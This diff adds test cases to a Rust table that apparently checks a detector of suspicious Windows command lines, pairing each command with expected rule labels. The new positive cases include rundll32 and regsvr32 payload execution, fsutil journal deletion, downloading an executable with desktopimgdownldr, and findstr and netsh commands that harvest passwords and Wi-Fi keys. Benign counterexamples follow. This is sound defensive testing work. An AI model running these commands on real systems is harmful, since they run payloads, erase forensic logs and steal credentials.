@@ -210,6 +210,31 @@ const SHELL: &[(&str, &[&str])] = &[
         r"cmd /c InfDefaultInstall.exe C:\x\Infdefaultinstall.inf",
         &["cmstp-inf"],
     ),
+    (
+        r"cmd /c rundll32.exe C:\AtomicTests\bin\calc.dll,StartW",
+        &["rundll32-proxy"],
+    ),
+    (
+        r"cmd /c regsvr32.exe /s D:\drop\payload.dll",
+        &["regsvr32-scriptlet"],
+    ),
+    (r"cmd /c fsutil usn deletejournal /D C:", &["log-tamper"]),
+    (
+        r#"cmd /c set "SYSTEMROOT=C:\Windows\Temp" && cmd /c desktopimgdownldr.exe /lockscreenurl:https://x/a.exe /eventName:desktopimgdownldr"#,
+        &["lolbin-download"],
+    ),
+    (
+        r"cmd /c expand \\fileserver\drop\a.cab C:\x\a.exe",
+        &["lolbin-download"],
+    ),
+    (
+        r#"cmd /c findstr /si pass *.xml *.doc *.txt"#,
+        &["credential-search"],
+    ),
+    (
+        r"cmd /c netsh wlan show profile name=corp key=clear",
+        &["credential-search"],
+    ),
     // LOLBins written in the shell line
     (
         r#"cmd /c rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)"#,
@@ -350,6 +375,17 @@ const SHELL: &[(&str, &[&str])] = &[
         &[],
     ),
     (r"cmd /c sc query WinDefend", &[]),
+    (
+        r#"cmd /c rundll32 "C:\Program Files\Vendor\app.dll",Setup"#,
+        &[],
+    ),
+    (
+        r"cmd /c rundll32 C:\Windows\System32\shell32.dll,Control_RunDLL desk.cpl",
+        &[],
+    ),
+    (r"cmd /c fsutil fsinfo drives", &[]),
+    (r"cmd /c expand C:\x\a.cab -F:* C:\x", &[]),
+    (r"cmd /c findstr /s TODO *.cs", &[]),
     (r"cmd /c copy C:\Windows\System32\cmd.exe C:\tools\", &[]),
     (
         r"cmd /c copy C:\Windows\System32\drivers\etc\hosts C:\backup\hosts.txt",
